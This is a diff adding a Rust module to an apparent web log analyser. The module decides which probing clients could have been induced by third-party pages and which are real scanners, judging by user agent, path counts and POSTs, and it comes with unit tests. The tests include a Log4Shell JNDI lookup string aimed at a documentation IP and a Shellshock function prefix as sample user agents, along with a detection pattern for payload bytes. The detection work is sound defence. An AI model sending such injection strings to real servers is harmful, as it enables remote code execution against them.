@@ -1,0 +1,145 @@
+//! Clients whose requests a third party may have made them send.
+//!
+//! Any page can make the browsers of its readers request any path and query of a site: by images, frames, style sheets, links,
+//! redirects and forms. Search engines and previews of links request them as well. So a few probes by a browser, or one or two by a
+//! follower of links, are no sign of a prober, and [`block_candidates`](super::block_candidates) does not list their client. The
+//! signs that a third party cannot cause are
+//!
+//! - a user agent that is neither a browser's nor a link follower's, as a page cannot set it; also none, where the log has others;
+//! - a rule about the client or the method, as for the name of a scanner in a user agent;
+//! - [`MANY_PROBES`] distinct paths, more than a post with images has; of a link follower [`MIN_GUESSES`];
+//! - [`MANY_PROBES`] POSTs, because only a click or a script sends one.
+//!
+//! The referer is no sign. A page can suppress it or be on the site itself, and scanners send any. Nor are the times, the number
+//! of GETs or other requests: a page that is read again sends its requests again, alone or beside a visit. A page with a script can
+//! exceed the bounds: what its readers send is a scan.
+//!
+//! On eleven real logs 21 of 155 entries send no other sign. With 3 paths as the bound they were 19, with 20 paths 22.
+
+use std::collections::HashMap;
+
+use memchr::memmem;
+
+use super::build::LogAnalysis;
+use super::report_input::ReportInput;
+use super::rows;
+use crate::client::Client;
+use crate::formats::LogFormat;
+use crate::intern::SymbolTables;
+use crate::soft_404::{MethodClass, RuleSubject};
+
+/// Three failed guesses are no accident: a visitor or a search engine with an outdated link may cause one or two.
+pub(super) const MIN_GUESSES: u64 = 3;
+/// This many probes are never an accident, whatever the responses were.
+pub(super) const MANY_PROBES: u64 = 10;
+
+/// What the hits of a client show.
+#[derive(Debug)]
+struct ClientSigns {
+    /// Fewer distinct paths than this may be those of a third party.
+    path_bound: u64,
+    /// Hits with a request body.
+    posts: u64,
+}
+
+/// The clients whose hits a third party may have caused, if they have fewer distinct paths than this. `subject` is what a client is
+/// judged as, if it is judged.
+pub(super) fn third_party_bounds<'a>(
+    report_input: &ReportInput<'a>,
+    analysis: &LogAnalysis<'_>,
+    subject: impl Fn(Client<'a>) -> Option<Client<'a>>,
+) -> HashMap<Client<'a>, u64> {
+    let tally = report_input.tally;
+    let mut signs: HashMap<Client<'a>, ClientSigns> = HashMap::new();
+    let mut has_agents: HashMap<u32, bool> = HashMap::new();
+    for (view, decision) in tally.cells().zip(analysis.decisions()) {
+        if !decision.reported || view.client == SymbolTables::OTHER {
+            continue;
+        }
+        let Some(subject) = subject(tally.client(view.client)) else { continue };
+        let path_bound = match rows::sample(report_input, view.sample()).user_agent {
+            Some(agent) => agent_bound(agent),
+            None => {
+                let input = view.sample().position.input;
+                if *has_agents.entry(input).or_insert_with(|| records_agents(report_input, input)) { 0 } else { MANY_PROBES }
+            }
+        };
+        let is_of_client = |rule| report_input.rules.rule(rule).subject == RuleSubject::Client;
+        let path_bound = if analysis.list(decision).iter().any(|&rule| is_of_client(rule)) { 0 } else { path_bound };
+        let signs = signs.entry(subject).or_insert(ClientSigns { path_bound, posts: 0 });
+        signs.path_bound = signs.path_bound.min(path_bound);
+        signs.posts += if view.method == MethodClass::Post { view.cell.hits } else { 0 };
+    }
+    let without_posts = signs.into_iter().filter(|(_, signs)| signs.posts < MANY_PROBES);
+    without_posts.map(|(client, signs)| (client, signs.path_bound)).collect()
+}
+
+/// Whether the lines of an input have user agents: by their format, or because a hit has one.
+fn records_agents(report_input: &ReportInput<'_>, input: u32) -> bool {
+    let format = report_input.inputs.get(input as usize).and_then(|input| input.format.as_deref());
+    [LogFormat::Combined, LogFormat::VhostCombined].iter().any(|known| format == Some(known.as_str()))
+        || report_input.tally.cells().any(|view| {
+            let sample = view.sample();
+            sample.position.input == input && rows::sample(report_input, sample).user_agent.is_some()
+        })
+}
+
+/// Bytes of payloads, which browsers have in no user agent.
+const PAYLOAD: &[u8] = b"${}<>`\\";
+
+/// The distinct paths from which a client with this user agent is a prober. Any client can send that of a browser, or of a program
+/// that follows the links of others and gives an address about itself: that it is true is not known.
+fn agent_bound(agent: &[u8]) -> u64 {
+    let has = |part: &[u8]| memmem::find(agent, part).is_some();
+    if agent.iter().any(|byte| PAYLOAD.contains(byte)) {
+        0
+    } else if has(b"+http") {
+        MIN_GUESSES
+    } else if agent.starts_with(b"Mozilla/5.0 (") && (has(b"AppleWebKit/") || has(b"Gecko")) || agent.starts_with(b"Opera/9.80 (") {
+        // All browsers of today have one of these engines in their name; Opera Mini does not.
+        MANY_PROBES
+    } else {
+        0
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn browsers_and_followers_of_links_are_known_by_their_user_agents() {
+        for agent in [
+            "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
+            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36 Edg/126.0.0.0",
+            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBLC/en_US]",
+            "Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko",
+            "Opera/9.80 (J2ME/MIDP; Opera Mini/7.1.32052/29.3709; U; en) Presto/2.8.119 Version/11.10",
+        ] {
+            assert_eq!(agent_bound(agent.as_bytes()), 10, "{agent}");
+        }
+        for agent in [
+            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
+            "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
+        ] {
+            assert_eq!(agent_bound(agent.as_bytes()), 3, "{agent}");
+        }
+        for agent in [
+            "",
+            "-",
+            "x",
+            "Mozilla/5.0",
+            "Mozilla/5.0 zgrab/0.x",
+            "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
+            "Mozilla/4.0 (compatible; Win32; WinHttp.WinHttpRequest.5)",
+            "python-requests/2.32.3",
+            "curl/8.5.0",
+            "Go-http-client/1.1",
+            "Hello, World",
+            "Mozilla/5.0 (X11) Gecko/20100101 Firefox/128.0 ${jndi:ldap://203.0.113.77/a}",
+            "() { :;}; echo +http://",
+        ] {
+            assert_eq!(agent_bound(agent.as_bytes()), 0, "{agent}");
+        }
+    }
+}
